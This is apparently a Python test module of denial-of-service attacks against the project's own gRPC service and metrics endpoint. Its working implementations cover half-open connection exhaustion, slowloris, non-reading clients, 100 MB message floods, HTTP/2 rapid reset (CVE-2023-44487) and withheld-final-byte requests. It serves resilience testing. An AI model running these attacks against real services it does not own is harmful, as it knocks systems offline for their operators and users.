"""Clients that mean harm, or are broken in a way that looks like it: contexts that last a block."""

import resource
import socket
import threading
import time
from collections.abc import Callable, Iterator, Mapping
from contextlib import AbstractContextManager, ExitStack, contextmanager, suppress
from dataclasses import dataclass
from select import select

import grpc

from fuzzing.frames import Withheld, taken_back
from rheostat.v1.runs_pb2 import CreateRunRequest, WatchRunRequest
from rheostat.v1.runs_pb2_grpc import RunsStub

HALF_OPEN = 2000
SLOW = 100
DEAF = 20
HUGE_BYTES = 100 * 2**20
WITHHOLDING = 200
TAKEN_BACK = 10_000
WITHHELD_METHODS = ("/rheostat.v1.Runs/CreateRun", "/grpc.health.v1.Health/Check")
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADER = b"GET /metrics HTTP/1.1\r\nHost: x\r\nX-Slow: "


@dataclass(frozen=True, slots=True)
class Place:
    """What is attacked."""

    address: str
    """host:port of gRPC."""
    metrics_address: str
    run: str
    """Name of one that trains."""


def _connect(address: str) -> socket.socket:
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=10)


@contextmanager
def half_open(place: Place) -> Iterator[None]:
    """Two thousand connections that never say a word, half of them to each port."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with ExitStack() as stack:
        for number in range(HALF_OPEN):
            address = place.address if number % 2 else place.metrics_address
            stack.enter_context(_connect(address))
        yield


@contextmanager
def slow_loris(place: Place) -> Iterator[None]:
    """Connections that send what belongs to a request one byte at a time, and never all of it."""
    is_over = threading.Event()

    def drip() -> None:
        with ExitStack() as stack:
            there = []
            for number in range(SLOW):
                grpc_side = bool(number % 2)
                one = _connect(place.address if grpc_side else place.metrics_address)
                there.append((stack.enter_context(one), _PREFACE if grpc_side else _HEADER))
            for index in range(10**6):
                for connection, text in there:
                    with suppress(OSError):  # hung up on, as it should be
                        connection.send(text[index : index + 1] or b"a")
                if is_over.wait(0.1):
                    return

    with _thread(drip, is_over):
        yield


@contextmanager
def deaf(place: Place) -> Iterator[None]:
    """Watchers that never read, and scrapers that ask again and again without reading."""
    is_over = threading.Event()

    def scrape() -> None:
        with _connect(place.metrics_address) as connection:
            connection.settimeout(0.1)
            while not is_over.wait(0.01):
                with suppress(OSError):
                    connection.send(b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n")

    with ExitStack() as stack:
        for _ in range(DEAF):
            window = (("grpc.http2.lookahead_bytes", 1024), ("grpc.use_local_subchannel_pool", 1))
            channel = stack.enter_context(grpc.insecure_channel(place.address, options=window))
            call = RunsStub(channel).WatchRun(WatchRunRequest(run=place.run, after_revision=0))
            stack.callback(call.cancel)
            next(call)
        stack.enter_context(_thread(scrape, is_over))
        yield


@contextmanager
def huge(place: Place) -> Iterator[None]:
    """Messages of a hundred megabytes, one after another, on both ports."""
    is_over = threading.Event()

    def send() -> None:
        message = CreateRunRequest(spec="x" * HUGE_BYTES)
        with grpc.insecure_channel(place.address) as channel:
            while not is_over.is_set():
                with suppress(grpc.RpcError):
                    RunsStub(channel).CreateRun(message, timeout=10)
                with suppress(OSError), _connect(place.metrics_address) as connection:
                    length = f"Content-Length: {HUGE_BYTES}\r\n\r\n".encode()
                    connection.sendall(b"POST /metrics HTTP/1.1\r\nHost: x\r\n" + length)
                    connection.sendall(b"x" * HUGE_BYTES)
                is_over.wait(0.5)

    with _thread(send, is_over):
        yield


@contextmanager
def rapid_reset(place: Place) -> Iterator[None]:
    """Calls that are taken back as soon as they are begun, by the thousand (CVE-2023-44487)."""
    is_over = threading.Event()
    calls = taken_back("/rheostat.v1.Runs/ListRuns", TAKEN_BACK)

    def reset() -> None:
        while not is_over.wait(0.1):
            with suppress(OSError), _connect(place.address) as connection:
                connection.sendall(calls)

    with _thread(reset, is_over):
        yield


@contextmanager
def withholding(place: Place) -> Iterator[None]:
    """Calls of strangers that send all of the largest message that is allowed but its last byte."""
    is_over = threading.Event()

    def withhold() -> None:
        with ExitStack() as stack:
            calls: list[Withheld] = []
            while not is_over.is_set():
                if len(calls) < WITHHOLDING:
                    method = WITHHELD_METHODS[len(calls) % 2]
                    calls.append(Withheld(place.address, method, length=4 * 2**20 - 10))
                    stack.callback(calls[-1].close)
                for call in select(calls, [], [], 0.05)[0]:
                    call.push()
                calls[-1].push()

    with _thread(withhold, is_over):
        yield


@contextmanager
def _thread(work: Callable[[], None], is_over: threading.Event) -> Iterator[None]:
    thread = threading.Thread(target=work, name=work.__qualname__)
    thread.start()
    time.sleep(0.5)  # it is at it
    try:
        yield
    finally:
        is_over.set()
        thread.join()


ATTACKS: Mapping[str, Callable[[Place], AbstractContextManager[None]]] = {
    "half_open": half_open,
    "slow_loris": slow_loris,
    "deaf": deaf,
    "huge": huge,
    "rapid_reset": rapid_reset,
}
